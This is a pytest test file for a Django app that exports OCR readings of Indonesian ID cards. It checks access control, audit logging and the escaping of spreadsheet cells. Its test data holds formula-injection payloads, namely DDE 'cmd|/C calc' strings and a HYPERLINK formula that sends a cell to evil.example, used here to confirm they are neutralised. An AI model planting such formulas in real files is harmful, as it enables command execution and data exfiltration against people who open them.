"""Exporting readings: who may, what the file is in a spreadsheet, and what the audit log says of it."""

from __future__ import annotations

import asyncio
import csv
import datetime
import io
import json
import re
import stat
from pathlib import Path
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.contrib.auth.models import Group, Permission, User
from django.core.management import CommandError, call_command
from django.db import connections
from django.test import Client
from django.utils import timezone

from ocr import export
from ocr.audit.breach import Suspect, seen
from ocr.audit.models import AuditEntry
from ocr.models import KtpExtraction
from ocr.reading.schema import as_contract
from ocr.spreadsheet import BOM, harmless
from tests.db.ktp_cards import read_extraction, reading_extraction
from tests.ktp_card import CARD

pytestmark = pytest.mark.django_db(transaction=True)

LIST = "/admin/ocr/ktpextraction/"
#: as in the vocabularies of cards, and the contract's two parts of the line of birth
VALUES = (
    *("nik", "nama", "tempat_lahir", "tgl_lahir", "jenis_kelamin", "alamat", "rt_rw", "kel_desa", "kecamatan"),
    *("agama", "status_perkawinan", "pekerjaan", "kewarganegaraan", "berlaku_hingga"),
)


def person(*codenames: str, role: str = "") -> Client:
    user = User.objects.create_user("exporter", is_staff=True)
    user.groups.set(Group.objects.filter(name=role))
    user.user_permissions.set(Permission.objects.filter(codename__in=codenames))
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def exporter() -> Client:
    return person("view_ktpextraction", "export_ktpextraction")


def ask(client: Client, *cards: KtpExtraction, address: str = LIST, **fields: Any) -> Any:
    """The post of the list, and with fields that of the page that it leads to."""
    chosen = {"action": "export_selected", "_selected_action": [str(card.pk) for card in cards], **fields}
    return client.post(address, chosen)


def pieces_of(response: Any) -> list[bytes]:
    async def collected() -> list[bytes]:
        try:
            return [piece async for piece in response.streaming_content]
        finally:
            await sync_to_async(connections.close_all)()

    return asyncio.run(collected())


def exported(client: Client, *cards: KtpExtraction, form: str = "csv", **fields: Any) -> bytes:
    response = ask(client, *cards, export="1", form=form, purpose="Monthly report 7/2026", **fields)
    assert response.status_code == 200, response.content
    return b"".join(pieces_of(response))


def rows_of(data: bytes) -> list[dict[str, str]]:
    text = data.decode()
    assert text.startswith(BOM) and not text.startswith(BOM * 2)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))


def test_a_spreadsheet_gets_every_value_as_text(exporter: Client) -> None:
    card = read_extraction()

    (row,) = rows_of(exported(exporter, card))

    assert tuple(row)[1:-5] == VALUES
    assert tuple(row)[-5:] == ("uploaded_at", "state", "review", "reviewed_at", "problems")
    assert row["id"] == str(card.pk)
    # Sixteen digits are more than a number of a spreadsheet has, and 001/002 would become a date.
    assert row["nik"] == f"'{CARD['nik']}" and row["rt_rw"] == f"'{CARD['alamat.rt_rw']}"
    assert (row["nama"], row["alamat"]) == (CARD["nama"], CARD["alamat.name"])
    assert (row["state"], row["review"], row["problems"]) == ("read", "needs_review", "nik_unused_district")


def test_a_program_gets_the_contract_and_the_exact_values(exporter: Client) -> None:
    cards = [read_extraction(text=json.dumps(as_contract({**CARD, "nama": name}))) for name in ("=1+1", 'O\'BÉ, "X"')]

    found = json.loads(exported(exporter, *cards, form="json"))

    assert {one["nama"] for one in found} == {"=1+1", 'O\'BÉ, "X"'}
    (first,) = (one for one in found if one["id"] == str(cards[0].pk))
    assert {name: first[name] for name in as_contract(CARD)} == as_contract({**CARD, "nama": "=1+1"})
    assert first["problems"] == [problem["code"] for problem in cards[0].problems]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        *((f"{sign}cmd|' /C calc'!A0", f"'{sign}cmd|' /C calc'!A0") for sign in ("=", "+", "-", "@", "\t", "\r", "＝")),
        ("JL. X;=1+1", "JL. X;'=1+1"),
        ("a, @SUM(1)", "a, '@SUM(1)"),
        ("-", "'-"),
        ("BUDI", "BUDI"),
        ("JL. MAWAR NO. 3-5", "JL. MAWAR NO. 3-5"),
        ("", ""),
        (None, ""),
        ("3171990101900001", "'3171990101900001"),
        ("001/002", "'001/002"),
        ("01-02-1990", "01-02-1990"),
    ],
)
def test_no_cell_is_a_formula_a_number_or_a_date_by_mistake(value: str | None, cell: str) -> None:
    assert harmless(value) == cell


def test_a_formula_on_a_card_is_harmless_in_the_file(exporter: Client) -> None:
    cell = '=HYPERLINK("https://evil.example/?"&A2,"x")'
    card = read_extraction(text=json.dumps(as_contract({**CARD, "nama": cell, "alamat.name": "+62"})))

    (row,) = rows_of(exported(exporter, card))

    assert (row["nama"], row["alamat"]) == (f"'{cell}", "'+62")


# --- Who may, and what is asked ---


@pytest.mark.parametrize("role", ["Clerk", "Reviewer", "Operator", "Auditor"])
def test_no_role_may_export_until_it_is_given_to_somebody(role: str) -> None:
    card = read_extraction()
    client = person(role=role)

    response = ask(client, card, export="1", form="csv", purpose="x")

    assert not response.streaming and CARD["nama"] not in response.text
    assert not AuditEntry.objects.filter(action="exported").exists()
    assert "export_selected" not in client.get(LIST).text


def test_the_page_says_what_it_is_and_asks_what_for(exporter: Client) -> None:
    cards = [read_extraction() for _ in range(2)]

    page = ask(exporter, *cards)

    assert page.status_code == 200 and "<b>2</b> readings with every value in full" in page.text
    assert 'autocomplete="off"' in page.text and CARD["nama"] not in page.text
    for purpose in ("", " ", f"For {CARD['nik']}"):
        refused = ask(exporter, *cards, export="1", form="csv", purpose=purpose)
        assert refused.status_code == 400 and not refused.streaming
    assert ask(exporter, *cards, export="1", form="exe", purpose="x").status_code == 400
    assert not AuditEntry.objects.filter(action="exported").exists()


def test_the_file_and_its_name_stay_in_no_cache_and_name_nobody(exporter: Client) -> None:
    response = ask(exporter, read_extraction(), export="1", form="csv", purpose="x")

    assert "no-store" in response["Cache-Control"] and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="readings-\d{8}-\d{6}-[0-9a-f]{8}\.csv"', response["Content-Disposition"]
    )
    pieces_of(response)


def test_all_that_a_filter_leaves_are_exported_over_many_pages(
    exporter: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PAGE_READINGS", 2)
    cards = [reading_extraction(), *(read_extraction() for _ in range(4))]
    cards[0].mark_failed("cancelled")

    filtered = f"{LIST}?state__exact=read"
    rows = rows_of(exported(exporter, cards[1], address=filtered, select_across="1"))
    found = json.loads(exported(exporter, cards[1], address=filtered, select_across="1", form="json"))

    newest_first = [str(card.pk) for card in reversed(cards[1:])]
    assert [row["id"] for row in rows] == [one["id"] for one in found] == newest_first


def test_more_than_the_limit_are_refused_before_anything_is_sent(exporter: Client, settings: Any) -> None:
    settings.OCR_EXPORT_MAX_READINGS = 1
    cards = [read_extraction() for _ in range(2)]

    response = ask(exporter, *cards, export="1", form="csv", purpose="x")

    assert response.status_code == 302
    assert "Select 1 readings at most" in exporter.get(LIST).text


# --- What is recorded ---


def test_each_page_is_recorded_with_its_readings_before_it_is_sent(
    exporter: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PAGE_READINGS", 2)
    cards = [read_extraction() for _ in range(5)]
    response = ask(exporter, *cards, export="1", form="csv", purpose="Monthly report 7/2026")

    async def first() -> None:
        events = aiter(response.streaming_content)
        await anext(events)
        await events.aclose()
        await sync_to_async(connections.close_all)()

    asyncio.run(first())

    # The client left after one page: that one has left the server, the others have not.
    entries = AuditEntry.objects.filter(action="exported").order_by("sequence")
    assert [entry.card for entry in entries] == [card.pk for card in reversed(cards)][:2]
    for entry in entries:
        assert (entry.actor_name, entry.purpose) == ("exporter", "Monthly report 7/2026")
        assert (entry.facts["of"], entry.facts["format"]) == (5, "csv")
    assert len({entry.facts["export"] for entry in entries}) == 1
    # What an account has taken out is on the page for a breach.
    start, end = timezone.now() - datetime.timedelta(hours=1), timezone.now() + datetime.timedelta(hours=1)
    taken = [one for one in seen(Suspect.of("exporter"), start, end) if "exported" in one.actions]
    assert {one.card for one in taken} == {card.pk for card in cards[-2:]} and all(one.in_clear for one in taken)


def test_readings_that_are_erased_meanwhile_are_left_out(exporter: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE_READINGS", 1)
    cards = [read_extraction() for _ in range(3)]
    for form in ("csv", "json"):
        response = ask(exporter, *cards, export="1", form=form, purpose="x")
        KtpExtraction.objects.filter(pk=cards[2].pk).delete()
        data = b"".join(pieces_of(response))
        found = [row["id"] for row in (rows_of(data) if form == "csv" else json.loads(data))]
        assert found == [str(cards[1].pk), str(cards[0].pk)]


# --- The command ---


def test_the_command_writes_a_file_for_its_owner_alone(tmp_path: Path) -> None:
    card, file = read_extraction(), tmp_path / "readings.csv"

    call_command("export_readings", str(file), "--purpose", "Migration", "--since", "2020-01-01", stderr=io.StringIO())

    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert [row["id"] for row in rows_of(file.read_bytes())] == [str(card.pk)]
    entry = AuditEntry.objects.get(action="exported")
    assert (entry.actor_kind, entry.purpose) == ("command", "Migration")
    with pytest.raises(CommandError, match="cannot be written"):
        call_command("export_readings", str(file), "--purpose", "Migration", stderr=io.StringIO())
    with pytest.raises(CommandError, match="no such reading"):
        call_command("export_readings", "-", "--purpose", "Migration", "--until", "2020-01-01")


@pytest.mark.parametrize("purpose", [CARD["nik"], "For 3171 9901 0190 0001"])
def test_the_command_takes_no_nik_for_a_purpose_and_leaves_no_file(tmp_path: Path, purpose: str) -> None:
    read_extraction()
    with pytest.raises(CommandError, match="looks like a NIK") as refused:
        call_command("export_readings", str(tmp_path / "readings.csv"), "--purpose", purpose)
    assert purpose not in str(refused.value)
    assert not list(tmp_path.iterdir())
